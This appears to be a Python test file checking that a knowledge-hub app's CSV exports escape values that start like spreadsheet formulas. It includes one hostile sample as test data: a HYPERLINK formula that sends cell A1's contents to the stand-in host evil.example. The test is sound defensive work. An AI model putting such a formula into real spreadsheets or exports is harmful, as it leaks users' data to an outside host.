"""Every CSV the hub writes keeps a value that looks like a formula as text."""

from __future__ import annotations

import csv
import io

import pytest
from flask import Flask
from hypothesis import given
from hypothesis import strategies as st

from knowledge_hub.csv_export import FORMULA_STARTS
from knowledge_hub.csv_export import csv_lines
from knowledge_hub.csv_export import csv_text
from knowledge_hub.csv_export import safe_cell
from knowledge_hub.services import imports
from tests.conftest import sign_in

TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
REF = "+FORMULA"


def parsed(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_a_cell_that_starts_like_a_formula_is_kept_as_text() -> None:
    assert safe_cell("=HYPERLINK(1)") == "'=HYPERLINK(1)"
    assert safe_cell("@SUM(A1)") == "'@SUM(A1)"
    assert safe_cell("-2+3") == "'-2+3"
    assert safe_cell("\tx") == "'\tx"
    assert safe_cell("plain") == "plain"
    assert safe_cell(None) == "" and safe_cell(12) == "12"


@given(st.lists(st.lists(st.one_of(st.none(), st.integers(), st.text()), min_size=1, max_size=4)))
def test_no_cell_of_an_export_starts_like_a_formula(rows: list[list[object]]) -> None:
    header = ["a", "b", "c", "d"]
    text = csv_text(header, rows)
    assert text == "".join(csv_lines(header, rows))
    cells = parsed(text)
    assert cells[0] == header
    # Every value comes back as the cell written for it, and none can run.
    assert cells[1:] == [[safe_cell(v) for v in row] for row in rows]
    assert not any(cell.startswith(FORMULA_STARTS) for row in cells for cell in row)


@pytest.mark.slow
def test_every_export_guards_a_formula_title(app: Flask, import_rows, make_user) -> None:
    """The import report, the audit log and the translation coverage: the three exports."""
    report = import_rows([dict(ref=REF, title=TITLE, content="Cooperatives and mutuals.")])
    assert report.failed == 0

    [row] = [r for r in parsed(imports.report_csv(report))[1:] if r[1].endswith(REF)]
    assert row[1] == "'" + REF

    admin = app.test_client()
    sign_in(admin, make_user("admin", "staff"))
    audit = parsed(admin.get("/admin/audit.csv").get_data(as_text=True))
    refs = [r[7] for r in audit[1:] if r[7]]
    assert refs and all(ref == "'" + REF for ref in refs)

    coverage = parsed(admin.get("/translations/coverage.csv").get_data(as_text=True))
    [row] = [r for r in coverage[1:] if r[0].endswith(REF)]
    assert row[:2] == ["'" + REF, "'" + TITLE]
